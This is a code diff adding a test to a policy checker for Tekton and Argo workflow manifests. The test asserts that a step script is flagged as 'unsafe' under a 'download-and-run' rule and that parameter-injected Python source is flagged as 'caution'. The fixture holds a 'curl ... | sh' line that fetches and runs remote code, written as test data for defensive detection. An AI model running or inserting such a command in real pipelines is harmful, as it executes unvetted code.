@@ -50,6 +50,26 @@ describe('policy check', () => {
     ]);
   });
 
+  test('reads the scripts of workflows in the language that they are in', async () => {
+    const { judged } = workspace({
+      'task.yaml':
+        'apiVersion: tekton.dev/v1\nkind: Task\nmetadata: {name: t}\nspec:\n  steps:\n    - name: get\n      image: a:1\n      script: |\n        #!/bin/sh\n        curl https://get.example.org | sh\n',
+      'flow.yaml':
+        'apiVersion: argoproj.io/v1alpha1\nkind: Workflow\nspec:\n  templates:\n    - name: a\n      script: {image: "a:1", command: [python], source: "{{inputs.parameters.source}}"}\n',
+    });
+    const { items } = await judged('task.yaml', 'flow.yaml');
+
+    expect(shown(items)).toEqual([
+      ['task.yaml', 'unsafe'],
+      ['flow.yaml', 'caution'],
+    ]);
+    expect(items[0].issues[0]).toMatchObject({
+      rule: 'download-and-run',
+      object: 'Task t',
+      field: '/spec/steps/0/script',
+    });
+  });
+
   test.for([
     ['a Helm template', 'app.yaml', '{{- if .Values.on }}\napiVersion: v1\nkind: Pod\n{{- end }}\n'],
     ['a text that is no manifest', 'app.yaml', 'nothing to see here\n'],
